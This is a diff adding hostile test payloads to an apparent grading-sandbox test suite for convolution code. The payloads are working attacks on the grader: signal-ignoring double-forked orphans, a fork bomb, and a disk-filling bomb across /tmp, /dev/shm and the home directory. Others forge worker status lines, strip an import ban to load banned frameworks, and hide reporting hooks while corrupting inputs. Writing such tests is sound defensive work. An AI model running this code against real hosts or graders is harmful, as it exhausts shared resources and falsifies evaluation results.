@@ -515,6 +515,215 @@ def conv2d(*a, **k): return _EVIL
             faked=CONV_ITEMS + POOL_ITEMS,
         )
     )
+    # ---- Issue #11: escaping the kill, bounded answers, disk, processes, frameworks, mutation
+    add(
+        Payload(
+            "setsid_sleepers",
+            {
+                "conv": _conv("""
+import ctypes, signal, time
+def _orphan(depth):
+    if _os.fork() == 0:
+        try:
+            _os.setsid()
+            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(sig, signal.SIG_IGN)
+            ctypes.CDLL(None).prctl(15, _TOKEN[:15].encode(), 0, 0, 0)
+            if depth and _os.fork():
+                _os._exit(0)  # double fork: the grandchild is re-parented
+            _os.setsid() if depth else None
+            end = time.monotonic() + 90
+            while time.monotonic() < end:
+                time.sleep(0.5)
+        except BaseException:
+            pass
+        _os._exit(0)
+for _i in range(8):  # at import, from the package itself
+    _orphan(_i % 2)
+def _attack():
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    _orphan(1)
+    return 0
+"""),
+                "__init__": "import os\ntry:\n    os.setsid()\nexcept OSError:\n    pass\n",
+            },
+        )
+    )
+    add(
+        Payload(
+            "fork_bomb",
+            {
+                "conv": _conv("""
+import ctypes, time
+def _attack():
+    n = 0
+    for _ in range(2000):
+        try:
+            if _os.fork() == 0:
+                ctypes.CDLL(None).prctl(15, _TOKEN[:15].encode(), 0, 0, 0)
+                time.sleep(30)
+                _os._exit(0)
+            n += 1
+        except OSError:
+            break
+    return n
+""")
+            },
+        )
+    )
+    add(
+        Payload(
+            "huge_answers",
+            {
+                "conv": """
+def pad2d(*a, **k):
+    return [{{}}] * 3_000_000  # the worker's encoder caps it; then the raw variant below
+def conv1d(*a, **k):
+    x = []
+    for _ in range(200_000):
+        x = [x]
+    return x
+def conv2d(*a, **k):
+    return 10 ** 4000
+""",
+            },
+        )
+    )
+    add(
+        Payload(
+            "raw_pipe_answers",
+            {
+                "conv": """
+import os, sys, json
+_STATUS = int(sys.argv[3])
+_N = [0]
+def _forge(value):
+    # Answer every call twice: a hostile one for each plausible index, then return.
+    data = b'{{"status": "ok", "seconds": 1' + b"0" * 500 + b', "value": ' + value + b"}}"
+    for i in range(0, 700):
+        try:
+            os.write(_STATUS, b"done %d %d\\n" % (i, len(data)) + data)
+        except OSError:
+            break
+def pad2d(*a, **k):
+    _forge(b"[" * 100_000 + b"]" * 100_000)
+def conv1d(*a, **k):
+    _forge(b"[" + b"{{}}," * 3_000_000 + b"{{}}]")
+def conv2d(*a, **k):
+    _forge(b"9" * 4000)
+""",
+            },
+            keeps_honest=False,  # forging costs the submission's own time budget
+        )
+    )
+    add(
+        Payload(
+            "status_line_disk_bomb",
+            {
+                "conv": _conv("""
+import sys
+def _attack():
+    status = int(sys.argv[3])
+    block = b"x" * (1 << 20)
+    written = 0
+    for place in [_os.getcwd(), "/tmp/cnn-job", "/tmp", "/dev/shm", "/var/tmp",
+                  _os.path.expanduser("~"), "/run/lock"]:
+        for i in range(400):  # 400 MB per place unless the kernel stops it
+            try:
+                with open(_os.path.join(place, _TOKEN + "-bomb%d" % i), "wb") as f:
+                    f.write(block)
+                written += 1
+                _os.write(status, b"import conv\\n")  # keep the status channel busy
+            except OSError:
+                break
+    return written
+""")
+            },
+        )
+    )
+    add(
+        Payload(
+            "tensorflow_by_path",
+            {
+                "conv": """
+import sys, os, importlib
+def _find():
+    sys.meta_path[:] = [m for m in sys.meta_path if "Ban" not in type(m).__name__]
+    roots = [sys.prefix, sys.base_prefix, "/tmp/cnn-job/ro", "/usr", "/usr/local",
+             os.path.expanduser("~")] + list({sites!r})
+    found = []
+    for root in roots:
+        for dirpath, dirs, files in os.walk(root):
+            if dirpath.count(os.sep) - root.count(os.sep) > 5:
+                dirs[:] = []
+            if os.path.basename(dirpath) in ("site-packages", "dist-packages"):
+                found.append(dirpath)
+                dirs[:] = []
+    sys.path.extend(found)
+    for name in ("tensorflow", "keras", "torch", "scipy.signal"):
+        try:
+            return importlib.import_module(name)
+        except BaseException:
+            continue
+    return None
+_M = _find()
+def pad2d(x, *a, **k):
+    return _M.pad(x, *a).numpy()
+def conv1d(*a, **k):
+    return _M.nn.conv1d(*a).numpy()
+def conv2d(x, w, *a, **k):
+    return _M.nn.conv2d(x, w, 1, "VALID").numpy()
+""",
+            },
+        )
+    )
+    add(
+        Payload(
+            "hidden_mutation",
+            {
+                "conv": """
+@SOLUTION:conv@
+import sys as _sys2
+_real = {{n: globals()[n] for n in ("pad2d", "conv1d", "conv2d")}}
+def _hide():
+    # Rewrite whatever the worker might use to report inputs back, then damage the inputs.
+    main = _sys2.modules.get("__main__")
+    for name in ("digest", "arrays_in"):
+        if main is not None:
+            setattr(main, name, lambda *a, **k: [])
+def _wrap(name):
+    def f(*a, **k):
+        out = _real[name](*a, **k)
+        _hide()
+        for v in a:
+            if hasattr(v, "fill"):
+                v.fill(0.0)
+        return out
+    return f
+pad2d, conv1d, conv2d = _wrap("pad2d"), _wrap("conv1d"), _wrap("conv2d")
+""",
+            },
+            faked=("conv.pad2d", "conv.conv1d", "conv.conv2d"),
+        )
+    )
+    add(
+        Payload(
+            "gradebook.csv",
+            {"conv": _conv("def _attack():\n    return 0\n")},
+        )
+    )
+    add(
+        Payload(
+            "summary.html",
+            {"conv": _conv("def _attack():\n    return 0\n")},
+        )
+    )
+    add(
+        Payload(
+            "mistakes.csv",
+            {"conv": _conv("def _attack():\n    return 0\n")},
+        )
+    )
     return P
 
 
